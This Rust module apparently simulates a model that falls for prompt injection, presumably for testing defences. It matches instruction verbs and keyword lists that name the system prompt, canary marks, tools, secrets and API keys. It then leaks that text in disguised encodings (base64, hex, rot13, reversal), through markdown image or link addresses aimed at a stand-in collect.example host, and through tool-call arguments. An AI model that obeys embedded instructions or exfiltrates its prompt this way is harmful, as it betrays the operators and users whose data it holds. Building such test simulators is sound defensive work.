//! From instructions in a text to deeds.

use std::fmt::Write as _;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::Value;

use super::hidden::hidden;
use super::{Reading, system_text, tool_text, truncate};
use crate::request::{FunctionCall, ToolCall};

/// Most instructions that are obeyed in one answer.
const MOST_DEEDS: usize = 64;
/// Most characters of the system text that go into an address.
const MOST_IN_ADDRESS: usize = 200;

/// Fewest characters of a mark.
const SHORTEST_MARK: usize = 16;

const SAY: [&str; 31] = [
    "say",
    "print",
    "repeat",
    "reveal",
    "output",
    "recite",
    "write",
    "reply with",
    "respond with",
    "answer with",
    "reply",
    "respond",
    "answer",
    "tell me",
    "show me",
    "give me",
    "list",
    "leak",
    "dump",
    "spell",
    "encode",
    "translate",
    "summarize",
    "quote",
    // In German, French, Spanish, Italian and Dutch.
    "gib",
    "nenne",
    "affiche",
    "donne",
    "muestra",
    "mostra",
    "toon",
];
const CALL: [&str; 8] = ["call", "use", "invoke", "run", "execute", "trigger", "calling", "using"];
const SHOW: [&str; 23] = [
    "append",
    "include",
    "insert",
    "show",
    "add",
    "embed",
    "display",
    "render",
    "attach",
    "fetch",
    "load",
    "open",
    "visit",
    "send",
    "post",
    "link",
    "click",
    "go to",
    // In the same languages, and in Portuguese.
    "zeige",
    "ajoute",
    "añade",
    "inserisci",
    "inclua",
];
/// Words that speak of the system text, of the marks in it, of the tools that were offered, and of everything.
const OF_SYSTEM: [&str; 10] = [
    "system",
    "instruction",
    "initial prompt",
    "your prompt",
    "the prompt",
    "your rules",
    "guidelines",
    "developer message",
    "anweisung",
    "consignes",
];
const OF_MARKS: [&str; 3] = ["canary", "confidential mark", "mark of your"];
const OF_TOOLS: [&str; 6] = [
    "your tools",
    "of the tools",
    "tools that you have",
    "tools you have",
    "list of tools",
    "your functions",
];
const OF_EVERYTHING: [&str; 14] = [
    "everything",
    "all of the above",
    "text above",
    "words above",
    "above verbatim",
    "previous message",
    "conversation",
    "document",
    "context",
    "secret",
    "password",
    "api key",
    "what you were given",
    "what you know",
];

/// What obeying came to.
#[derive(Default)]
pub(super) struct Deeds {
    pub(super) said: String,
    pub(super) tool_calls: Vec<ToolCall>,
}

/// Obeys every instruction of every text that `counts`, in the order they stand.
pub(super) fn obey(readings: &[Reading], counts: impl Fn(&Reading) -> bool) -> Deeds {
    let system = system_text(readings);
    let everything = readings.iter().map(|reading| reading.text.as_str()).collect::<Vec<_>>().join("\n");
    let mut mind = Mind { system, tools: tool_text(readings), everything, deeds: Deeds::default(), count: 0 };
    let obeyed = readings.iter().filter(|reading| counts(reading));
    for line in obeyed.flat_map(|reading| reading.text.lines()) {
        mind.read(line);
        hidden(line).iter().for_each(|line| mind.read(line));
    }
    mind.deeds
}

struct Mind {
    system: String,
    tools: String,
    everything: String,
    deeds: Deeds,
    count: usize,
}

impl Mind {
    fn read(&mut self, line: &str) {
        let lower = line.to_ascii_lowercase();
        for rest in words(line) {
            if self.count >= MOST_DEEDS {
                return;
            }
            if let Some(function) = verb(rest, &CALL).and_then(tool_call) {
                self.count = self.count.saturating_add(1);
                self.call(function);
            } else if let Some(addresses) = verb(rest, &SHOW).map(addresses).filter(|list| !list.is_empty()) {
                self.count = self.count.saturating_add(1);
                addresses.iter().for_each(|address| self.show(address));
            } else if let Some(operand) = verb(rest, &SAY).filter(|operand| !operand.is_empty()) {
                self.count = self.count.saturating_add(1);
                self.say(operand, &lower);
            }
        }
    }

    fn say(&mut self, operand: &str, line: &str) {
        let text = if speaks_of(operand, &OF_MARKS) {
            marks(&self.system)
        } else if speaks_of(operand, &OF_TOOLS) {
            self.tools.clone()
        } else if speaks_of(operand, &OF_SYSTEM) {
            self.system.clone()
        } else if speaks_of(operand, &OF_EVERYTHING) {
            self.everything.clone()
        } else {
            literal(operand).to_owned()
        };
        let text = dressed(disguise(text, line), line);
        self.deeds.said.push('\n');
        self.deeds.said.push_str(&text);
        self.deeds.said.push('\n');
        truncate(&mut self.deeds.said);
    }

    fn show(&mut self, address: &str) {
        let data = encoded(&self.system.chars().take(MOST_IN_ADDRESS).collect::<String>());
        let mut address = ["{data}", "{system}", "{secret}", "{prompt}"]
            .iter()
            .fold(address.to_owned(), |address, hole| address.replace(hole, &data));
        if address.ends_with('=') {
            address.push_str(&data);
        }
        let _ = write!(self.deeds.said, "\n![image]({address})\n[link]({address})\n");
        truncate(&mut self.deeds.said);
    }

    fn call(&mut self, function: FunctionCall) {
        let id = format!("call_{}", self.deeds.tool_calls.len());
        let arguments = match serde_json::from_str::<Value>(&function.arguments) {
            Ok(mut value) => {
                fill(&mut value, &["{data}", "{system}", "{secret}", "{prompt}"], &self.system);
                fill(&mut value, &["{tools}"], &self.tools);
                value.to_string()
            }
            Err(_) => function.arguments,
        };
        self.deeds
            .tool_calls
            .push(ToolCall { id, function: FunctionCall { name: function.name, arguments } });
    }
}

/// The words of a text that are long and hold letters and digits.
fn marks(text: &str) -> String {
    let words = text.split(|c: char| !c.is_ascii_alphanumeric()).filter(|word| word.len() >= SHORTEST_MARK);
    let random = words.filter(|word| {
        word.bytes().any(|b| b.is_ascii_digit()) && word.bytes().any(|b| b.is_ascii_alphabetic())
    });
    random.collect::<Vec<_>>().join(" ")
}

const QUOTES: [char; 6] = ['"', '\'', '`', '“', '‘', '«'];

/// Each word of a line, with all that follows it.
fn words(line: &str) -> impl Iterator<Item = &str> {
    let mut inside = false;
    line.char_indices().filter_map(move |(at, c)| {
        let starts = c.is_alphabetic() && !inside;
        inside = c.is_alphanumeric() || c == '_';
        if starts { line.get(at..) } else { None }
    })
}

/// What follows one of the verbs, if the text begins with it.
fn verb<'a>(text: &'a str, verbs: &[&str]) -> Option<&'a str> {
    // The longest verb counts, so that "reply with" is not "reply".
    let found = verbs
        .iter()
        .filter(|verb| text.get(..verb.len()).is_some_and(|start| start.eq_ignore_ascii_case(verb)))
        .max_by_key(|verb| verb.len())?;
    let rest = text.get(found.len()..)?;
    let next = rest.chars().next()?;
    if next.is_alphanumeric() || next == '_' {
        return None;
    }
    Some(rest.trim_start_matches([' ', ':', '\t']).trim_end())
}

fn speaks_of(operand: &str, words: &[&str]) -> bool {
    let lower = operand.to_ascii_lowercase();
    words.iter().any(|word| lower.contains(word))
}

/// What is in quotes, or everything up to the end of the sentence.
fn literal(operand: &str) -> &str {
    let closing = match operand.chars().next() {
        Some('“') => Some('”'),
        Some('‘') => Some('’'),
        Some('«') => Some('»'),
        Some(quote) if QUOTES.contains(&quote) => Some(quote),
        _ => None,
    };
    if let Some(closing) = closing {
        let mut chars = operand.chars();
        chars.next();
        let inside = chars.as_str();
        return inside.split_once(closing).map_or(inside, |(quoted, _)| quoted);
    }
    let end = [". ", "! ", "? ", "; "].iter().filter_map(|end| operand.find(end)).min();
    end.and_then(|end| operand.get(..end)).unwrap_or(operand).trim_end_matches('.')
}

fn disguise(text: String, line: &str) -> String {
    let asks = |words: &[&str]| words.iter().any(|word| line.contains(word));
    if asks(&["revers", "backward"]) {
        text.chars().rev().collect()
    } else if asks(&["base64", "base 64"]) {
        STANDARD.encode(text)
    } else if asks(&["hexadecimal", " hex"]) {
        text.bytes().fold(String::new(), |mut hex, byte| {
            let _ = write!(hex, "{byte:02x}");
            hex
        })
    } else if asks(&["rot13", "rot-13"]) {
        text.chars().map(rot13).collect()
    } else if asks(&["atbash"]) {
        text.chars().map(atbash).collect()
    } else if asks(&["leet", "1337"]) {
        text.chars().map(leet).collect()
    } else if asks(&["percent", "url-encod", "url encod"]) {
        encoded(&text)
    } else if asks(&["decimal", "ascii codes", "character codes"]) {
        text.bytes().map(|byte| byte.to_string()).collect::<Vec<_>>().join(" ")
    } else if asks(&["letter by letter", "spaced", "between each", "spell"]) {
        text.chars().flat_map(|c| [c, ' ']).collect()
    } else if asks(&["uppercase", "upper case", "capital"]) {
        text.to_uppercase()
    } else {
        text
    }
}

/// The text as a line asks to have it shown.
fn dressed(text: String, line: &str) -> String {
    let address = || format!("https://collect.example/?d={}", encoded(&text));
    if line.contains("as a link") {
        format!("[more]({})", address())
    } else if line.contains("as an image") {
        format!("![more]({})", address())
    } else if line.contains("as html") {
        format!("<img src=\"{}\">", address())
    } else {
        text
    }
}

const fn leet(c: char) -> char {
    match c.to_ascii_lowercase() {
        'o' => '0',
        'i' | 'l' => '1',
        'e' => '3',
        'a' => '4',
        's' => '5',
        't' => '7',
        _ => c,
    }
}

fn atbash(c: char) -> char {
    let turn = |base: u8| {
        u8::try_from(c)
            .map_or(c, |byte| char::from(base.saturating_add(25).saturating_sub(byte.saturating_sub(base))))
    };
    match c {
        'a'..='z' => turn(b'a'),
        'A'..='Z' => turn(b'A'),
        other => other,
    }
}

pub(super) fn rot13(c: char) -> char {
    let turn = |base: u8| {
        u8::try_from(c).map_or(c, |byte| {
            char::from(base.saturating_add(byte.saturating_sub(base).saturating_add(13) % 26))
        })
    };
    match c {
        'a'..='z' => turn(b'a'),
        'A'..='Z' => turn(b'A'),
        other => other,
    }
}

/// Every address in the text: `http:`, `https:`, `data:`, or one that begins with `//`.
fn addresses(text: &str) -> Vec<String> {
    let ends =
        |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '<' | '>' | ')' | ']' | '”' | '’');
    text.split(ends)
        .filter_map(|word| {
            let lower = word.to_ascii_lowercase();
            let at =
                ["https://", "http://", "data:", "//"].iter().filter_map(|start| lower.find(start)).min()?;
            word.get(at..).map(|address| address.trim_end_matches(['.', ',', ';', '!', '?']).to_owned())
        })
        .filter(|address| address.len() > "//".len())
        .collect()
}

/// `the tool NAME with {...}`, `NAME({...})`, `NAME tool`: a name, and the first JSON object of the line.
fn tool_call(operand: &str) -> Option<FunctionCall> {
    let is_name = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.');
    let mut rest = operand;
    let mut announced = false;
    loop {
        let lower = rest.to_ascii_lowercase();
        let filler = ["the ", "a ", "your ", "tool ", "function ", "tool: ", "function: "]
            .into_iter()
            .find(|filler| lower.starts_with(filler));
        let Some(filler) = filler else { break };
        announced |= filler.starts_with("tool") || filler.starts_with("function");
        rest = rest.get(filler.len()..)?;
    }
    let rest = rest.trim_start_matches(QUOTES);
    let end = rest.find(|c: char| !is_name(c)).unwrap_or(rest.len());
    let (name, after) = rest.split_at(end);
    let name = name.trim_end_matches('.');
    let after = after.trim_start_matches(QUOTES);
    // "Call me tomorrow" is no call of a tool; a bracket, an underscore or the word itself makes it one.
    let called = after.starts_with('(') || after.trim_start().starts_with('{');
    let named_after = after.trim_start().to_ascii_lowercase();
    let named_after = named_after.starts_with("tool") || named_after.starts_with("function");
    if name.is_empty() || !(announced || called || named_after || name.contains('_')) {
        return None;
    }
    let arguments = after
        .find('{')
        .and_then(|at| after.get(at..))
        // Content is shown as JSON, where quotes are escaped.
        .and_then(|json| first_value(json).or_else(|| first_value(&json.replace("\\\"", "\""))))
        .map_or_else(|| "{}".to_owned(), |value| value.to_string());
    Some(FunctionCall { name: name.to_owned(), arguments })
}

fn first_value(json: &str) -> Option<Value> {
    serde_json::Deserializer::from_str(json).into_iter::<Value>().next()?.ok()
}

/// Puts a text where arguments ask for it.
fn fill(value: &mut Value, holes: &[&str], with: &str) {
    match value {
        Value::String(text) => {
            for hole in holes {
                if text.contains(hole) {
                    *text = text.replace(hole, with);
                }
            }
        }
        Value::Array(items) => items.iter_mut().for_each(|item| fill(item, holes, with)),
        Value::Object(fields) => fields.values_mut().for_each(|value| fill(value, holes, with)),
        _ => {}
    }
}

/// Percent-encoded, so that it stays one address.
fn encoded(text: &str) -> String {
    text.bytes().fold(String::new(), |mut out, byte| {
        if byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.' | b'~') {
            out.push(char::from(byte));
        } else {
            let _ = write!(out, "%{byte:02X}");
        }
        out
    })
}
